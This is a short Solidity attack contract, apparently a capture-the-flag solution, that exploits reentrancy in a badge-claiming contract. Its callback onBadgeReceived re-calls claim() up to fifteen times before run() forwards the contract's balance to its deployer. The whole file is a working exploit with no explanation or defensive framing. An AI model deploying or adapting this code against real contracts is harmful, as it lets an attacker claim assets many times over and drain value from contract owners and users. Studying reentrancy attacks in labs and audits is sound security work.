pragma solidity 0.8.26;

interface IBadges {
    function claim() external;
}

contract Collector {
    IBadges private immutable badges;
    address payable private immutable boss;
    uint256 private depth;

    constructor(IBadges _badges) {
        badges = _badges;
        boss = payable(msg.sender);
    }

    function run() external {
        badges.claim();
        boss.transfer(address(this).balance);
    }

    function onBadgeReceived(address, uint256) external returns (bytes4) {
        if (depth < 15) {
            depth += 1;
            badges.claim();
        }
        return this.onBadgeReceived.selector;
    }

    receive() external payable {}
}
